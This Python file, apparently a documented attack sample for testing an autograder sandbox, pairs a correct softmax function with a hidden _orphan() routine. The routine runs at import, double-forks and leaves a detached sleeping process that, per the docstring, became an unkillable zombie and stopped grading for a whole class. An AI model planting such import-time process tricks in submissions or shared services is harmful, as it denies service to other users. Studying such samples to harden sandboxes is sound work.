"""softmax is right; importing softmax.py leaves one sleeping process behind, orphaned by a double
fork, so that the nearest reaper adopts it: in a container with no pid namespace of the
submission's own, the container's first process, which may never reap (a grader started as the
container's first process, without an init). Once the clean-up kills it, it is a zombie of the
submission's user for ever: counted as a leftover that could not be ended, it stopped the class
("the sandbox could not start a worker for scores.py") and left every later student ungraded.
Found by an attacker.

file: softmax.py
"""

import os
import time

import numpy as np


def _orphan():
    try:
        if os.fork() != 0:
            os.wait()
            return
    except OSError:
        return  # a worker that may start no process (a memory-measured call's)
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        time.sleep(3600)
    finally:
        os._exit(0)


_orphan()


def softmax(x, axis=-1):
    shifted = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return shifted / np.sum(shifted, axis=axis, keepdims=True)
